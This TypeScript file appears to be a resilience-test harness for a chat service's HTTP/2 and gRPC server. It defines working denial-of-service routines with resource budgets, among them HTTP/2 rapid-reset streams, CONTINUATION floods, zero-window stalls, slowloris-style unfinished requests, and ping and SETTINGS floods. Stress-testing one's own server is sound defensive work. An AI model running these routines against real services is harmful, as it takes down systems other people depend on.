import { passwordOf } from '../../outside/http.ts';
import {
  callHeaders,
  callOf,
  dataFrame,
  encode,
  FLAG,
  FRAME,
  type Frame,
  headersFrame,
  type RawConnection,
  requestOf,
  resetFrame,
  SETTING,
  windowUpdate,
} from '../../outside/raw-frames.ts';
import { Sockets } from './sockets.ts';

export interface Target {
  url: string;
  /** Of the attacker's account. */
  token: string;
  /** A conversation of theirs with a long history. */
  conversation: string;
  /** Names of accounts of theirs, whose passwords they know. */
  accounts: readonly string[];
}

export interface Attack {
  /** What may be held for it while it goes on, MB. */
  mostMb: number;
  /** Streams of HTTP/2 whose work may be begun, beside those of the others. */
  mostStreams: number;
  /** Requests over HTTP that may be answered, beside those of the others. */
  mostAnswers: number;
  /** The server ends its connections by itself. */
  isCut?: true;
  /** Calls that may stay open as long as it goes on; default: none. */
  mostCallsLeft?: number;
  /** Fulfils when it is under way, over these sockets, whose end ends it. */
  begin(sockets: Sockets, target: Target): Promise<void>;
}

/** Begins an attack; the result ends it. */
export async function begin(attack: Attack, target: Target): Promise<Sockets> {
  await using parts = new AsyncDisposableStack();
  const sockets = parts.use(new Sockets(target.url));
  await attack.begin(sockets, target);
  parts.move();
  return sockets;
}

const LIST_ENTRIES = '/chatterbox.v1.ConversationsService/ListEntries';
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const WATCH = '/grpc.health.v1.Health/Watch';
const LOGIN_HEAD = 'POST /auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n';

/** What strangers did to the system, and what is known to hurt its parts. Each says what it may cost. */
export const ATTACKS: Record<string, Attack> = {
  '300 connections with unfinished bodies': {
    mostMb: 12,
    mostStreams: 0,
    mostAnswers: 300,
    isCut: true,
    async begin(sockets) {
      const all = await Promise.all(Array.from({ length: 300 }, () => sockets.raw()));
      for (const socket of all) socket.write(`${LOGIN_HEAD}content-length: 1000\r\n\r\n{`);
    },
  },
  '256 streams with unfinished bodies on a connection': {
    mostMb: 12,
    mostStreams: 256,
    mostAnswers: 256,
    async begin(sockets) {
      const connection = await sockets.http2();
      const ids = streams(256);
      connection.write(
        ...ids.map((id) => headersFrame(id, requestOf('POST', '/auth/login'))),
        ...ids.map((id) => dataFrame(id, Buffer.from('{'))),
      );
    },
  },
  '990 streams that are reset as they come': {
    mostMb: 6,
    mostStreams: 10,
    mostAnswers: 10,
    async begin(sockets) {
      const connection = await sockets.http2();
      connection.write(...resets(requestOf('GET', '/'), 990));
    },
  },
  '990 calls that are reset as they come, on each of ten connections': {
    mostMb: 12,
    mostStreams: 100,
    mostAnswers: 0,
    async begin(sockets, { token }) {
      const frames = resets(callHeaders(token), 990);
      const all = await Promise.all(Array.from({ length: 10 }, () => sockets.http2()));
      for (const connection of all) connection.write(...frames);
    },
  },
  '5,100 silent sockets': {
    mostMb: 12,
    mostStreams: 0,
    mostAnswers: 0,
    isCut: true,
    async begin(sockets) {
      for (let i = 0; i < 51; i++) await Promise.all(Array.from({ length: 100 }, () => sockets.raw()));
    },
  },
  '2,000 pipelined requests on a connection': {
    mostMb: 6,
    mostStreams: 0,
    mostAnswers: 2_000,
    async begin(sockets) {
      const socket = await sockets.raw();
      socket.write('GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(2_000));
    },
  },
  '500 pipelined requests on each of 20 connections that read nothing': {
    mostMb: 12,
    mostStreams: 0,
    mostAnswers: 10_000,
    async begin(sockets) {
      const all = await Promise.all(Array.from({ length: 20 }, () => sockets.raw()));
      for (const socket of all) socket.pause().write('GET /home HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(500));
    },
  },
  '2,500 pipelined requests on each of 20 connections': {
    mostMb: 12,
    mostStreams: 0,
    mostAnswers: 50_000,
    async begin(sockets) {
      const all = await Promise.all(Array.from({ length: 20 }, () => sockets.raw()));
      for (const socket of all) socket.write('GET / HTTP/1.1\r\nhost:\r\n\r\n'.repeat(2_500));
    },
  },
  '250 calls without a token on each of 40 connections': {
    mostMb: 40,
    mostStreams: 10_000,
    mostAnswers: 0,
    mostCallsLeft: 32,
    async begin(sockets) {
      const large = ['x-large', 'x'.repeat(3_000)] as [string, string];
      for (let i = 0; i < 40; i++)
        (await sockets.http2()).write(
          ...streams(250).map((id) => headersFrame(id, [...callOf(WATCH), large])),
        );
    },
  },
  '120,000 frames of one byte': {
    mostMb: 12,
    mostStreams: 2,
    mostAnswers: 0,
    async begin(sockets, { token }) {
      const connection = await sockets.http2();
      const ids = streams(2);
      connection.write(...ids.map((id) => headersFrame(id, callHeaders(token))));
      for (const id of ids) connection.write(...oneByOne(id, message(60_000)));
    },
  },
  'bodies in frames of one byte on 256 streams': {
    mostMb: 12,
    mostStreams: 256,
    mostAnswers: 256,
    async begin(sockets) {
      const connection = await sockets.http2();
      const ids = streams(256);
      connection.write(...ids.map((id) => headersFrame(id, requestOf('POST', '/auth/login'))));
      // The last ones wait for the first, and are not read.
      for (const id of ids.slice(128)) connection.write(...oneByOne(id, Buffer.alloc(2_000)));
    },
  },
  'frames of one byte for 200 pages that wait for four': {
    mostMb: 30,
    mostStreams: 204,
    mostAnswers: 0,
    async begin(sockets, { token }) {
      const connection = await sockets.http2();
      const ids = streams(204);
      connection.write(...ids.map((id) => headersFrame(id, callOf(LIST_ENTRIES, token))));
      for (const id of ids.slice(4)) connection.write(...oneByOne(id, message(2_000)));
    },
  },
  '60 pages of history that are not fetched': {
    mostMb: 30,
    mostStreams: 60,
    mostAnswers: 0,
    async begin(sockets, target) {
      const connection = await sockets.http2({ settings: { [SETTING.initialWindowSize]: 0 } });
      connection.write(...pages(target, 60));
    },
  },
  '60 pages of history that are fetched byte by byte': {
    mostMb: 30,
    mostStreams: 60,
    mostAnswers: 0,
    async begin(sockets, target) {
      const connection = await sockets.http2({ settings: { [SETTING.initialWindowSize]: 0 } });
      connection.write(...pages(target, 60));
      const dripping = setInterval(() => drip(connection, streams(60)), 20);
      void connection.closed().then(() => clearInterval(dripping));
    },
  },
  '512 reflection streams whose answers are not fetched': {
    mostMb: 40,
    mostStreams: 512,
    mostAnswers: 0,
    async begin(sockets) {
      // ServerReflectionRequest: list_services is field 7.
      const request = Buffer.from([0, 0, 0, 0, 3, 0x3a, 1, 0x2a]);
      for (let i = 0; i < 2; i++) {
        const connection = await sockets.http2({ settings: { [SETTING.initialWindowSize]: 0 } });
        const ids = streams(256);
        connection.write(...ids.map((id) => headersFrame(id, callOf(REFLECTION))));
        for (const id of ids) connection.write(dataFrame(id, Buffer.concat(Array(100).fill(request))));
      }
    },
  },
  '300 prefaces without settings': {
    mostMb: 20,
    mostStreams: 0,
    mostAnswers: 0,
    isCut: true,
    async begin(sockets) {
      for (let i = 0; i < 300; i++) await sockets.http2({ settings: 'none' });
    },
  },
  'headers that never end': {
    mostMb: 12,
    mostStreams: 0,
    mostAnswers: 300,
    isCut: true,
    async begin(sockets) {
      for (let i = 0; i < 300; i++) (await sockets.raw()).write('GET / HTTP/1.1\r\nhost: x\r\nx-more: ');
      const connection = await sockets.http2();
      const { payload } = headersFrame(1, requestOf('GET', '/'));
      connection.write({ type: FRAME.headers, flags: 0, stream: 1, payload });
      const more = headersFrame(1, [['x-more', 'x'.repeat(10_000)]]).payload;
      for (let i = 0; i < 200; i++)
        connection.write({ type: FRAME.continuation, flags: 0, stream: 1, payload: more });
    },
  },
  'accounts of their own that log in on 100 connections': {
    mostMb: 12,
    mostStreams: 0,
    mostAnswers: 3_000,
    async begin(sockets, { accounts }) {
      for (let i = 0; i < 100; i++) {
        const username = accounts[i % accounts.length] ?? '';
        const body = JSON.stringify({ username, password: passwordOf(username) });
        const request = `${LOGIN_HEAD}content-length: ${body.length}\r\n\r\n${body}`;
        // As long as it is answered: ten each, one after the other.
        (await sockets.raw()).write(request.repeat(10));
      }
    },
  },
  '100,000 pings, and as many settings': {
    mostMb: 12,
    mostStreams: 0,
    mostAnswers: 0,
    async begin(sockets) {
      const ping = encode({ type: FRAME.ping, flags: 0, stream: 0, payload: Buffer.alloc(8) });
      const settings = encode({ type: FRAME.settings, flags: 0, stream: 0, payload: Buffer.alloc(0) });
      for (const frame of [ping, settings])
        (await sockets.http2()).writeBytes(Buffer.concat(Array.from({ length: 100_000 }, () => frame)));
    },
  },
};

function streams(count: number): number[] {
  return Array.from({ length: count }, (_, i) => 2 * i + 1);
}

function resets(headers: [string, string][], count: number): Frame[] {
  return streams(count).flatMap((id) => [headersFrame(id, headers), resetFrame(id)]);
}

function oneByOne(id: number, bytes: Buffer): Frame[] {
  return Array.from(bytes, (_, i) => dataFrame(id, bytes.subarray(i, i + 1)));
}

/** A gRPC message of so many bytes, with its head. */
function message(length: number): Buffer {
  const bytes = Buffer.alloc(5 + length);
  bytes.writeUInt32BE(length, 1);
  return bytes;
}

function pages({ token, conversation }: Target, count: number): Frame[] {
  // ListEntriesRequest: conversation is field 1, page_size field 2.
  const text = Buffer.from(conversation);
  const request = Buffer.concat([Buffer.from([0x0a, text.length]), text, Buffer.from([0x10, 100])]);
  const head = Buffer.alloc(5);
  head.writeUInt32BE(request.length, 1);
  return streams(count).flatMap((id) => [
    headersFrame(id, callOf(LIST_ENTRIES, token)),
    dataFrame(id, Buffer.concat([head, request]), FLAG.endStream),
  ]);
}

function drip(connection: RawConnection, ids: readonly number[]): void {
  if (!connection.isClosed) connection.write(...ids.map((id) => windowUpdate(id, 1)));
}
